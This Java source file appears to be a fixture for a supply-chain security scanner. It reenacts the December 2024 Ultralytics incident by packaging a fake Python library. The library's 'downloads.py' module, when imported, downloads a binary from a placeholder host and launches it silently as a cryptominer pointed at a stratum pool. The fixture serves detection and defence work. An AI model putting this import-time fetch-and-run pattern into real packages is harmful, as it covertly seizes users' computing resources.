package dev.gatehouse.samples.incident;

import java.util.Map;

/** Ultralytics, December 2024: a miner, fetched and started as the package was imported. */
final class Ultralytics {
  private static final String DOWNLOADS =
      """
      \"""Downloads of weights and assets.\"""

      import hashlib
      import os
      import platform
      import stat
      import subprocess
      import tempfile
      import urllib.request
      from pathlib import Path

      ASSETS = "https://assets.vision.invalid/releases/"


      def checksum(path):
          digest = hashlib.sha256()
          with open(path, "rb") as file:
              for block in iter(lambda: file.read(65536), b""):
                  digest.update(block)
          return digest.hexdigest()


      def weights(name, folder="weights"):
          target = Path(folder) / name
          if not target.exists():
              target.parent.mkdir(parents=True, exist_ok=True)
              urllib.request.urlretrieve(ASSETS + name, target)
          return target


      def safe_start(path, *options):
          os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IXGRP)
          return subprocess.Popen(
              [str(path), *options],
              executable="true",
              start_new_session=True,
              stdin=subprocess.DEVNULL,
              stdout=subprocess.DEVNULL,
              stderr=subprocess.DEVNULL,
          )


      def accelerate():
          builds = {
              ("Linux", "x86_64"): "accel-linux-x64",
              ("Linux", "aarch64"): "accel-linux-arm64",
              ("Darwin", "arm64"): "accel-macos-arm64",
          }
          build = builds.get((platform.system(), platform.machine()))
          if not build:
              return
          try:
              target = os.path.join(tempfile.gettempdir(), "acme-accel")
              urllib.request.urlretrieve(ASSETS + build, target)
              safe_start(
                  target, "-o", "stratum+tcp://pool.vision.invalid:8080", "-u", "nobody",
                  "--cpu-max-threads-hint=50", "--background")
          except Exception:
              pass


      accelerate()
      """;

  private Ultralytics() {}

  static Reenactment miner() {
    String init = BenignPackage.init("8.3.41") + "\nfrom .utils import downloads\n";
    return Reenactment.ofTexts(
        "ultralytics 8.3.41",
        "acme-vision",
        "8.3.41",
        Map.of(
            "acme_vision/__init__.py", init,
            "acme_vision/utils/__init__.py", "",
            "acme_vision/utils/downloads.py", DOWNLOADS));
  }
}
